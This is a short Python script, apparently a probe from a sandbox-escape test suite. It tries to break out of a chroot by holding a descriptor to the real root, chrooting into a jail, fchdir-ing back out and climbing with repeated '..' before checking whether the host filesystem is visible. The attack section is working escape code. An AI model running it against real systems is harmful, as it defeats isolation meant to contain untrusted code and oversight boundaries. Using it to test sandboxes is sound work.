"""Leaves the root with chroot and a directory descriptor held outside of it.

Layer: kernel
Escape: a root other than the guest's
Control: the working directory can be changed
"""

# control
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    """A system call by its number on either processor: the result, and the name of its error."""
    number = x86_64 if os.uname().machine == "x86_64" else aarch64
    words = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *words), errno.errorcode.get(ctypes.get_errno(), "")


os.chdir("/tmp")
os.getcwd() == "/tmp"

# attack
loot = []
os.makedirs("/tmp/jail", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
loot.append(syscall(161, 51, b"/tmp/jail"))
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
loot.append(syscall(161, 51, b"."))
names = os.listdir("/")
if loot[0][0] == 0 or loot[1][0] == 0 or "sys" in names or "home" in names:
    loot.append(f"ESCAPED: {names}")
loot
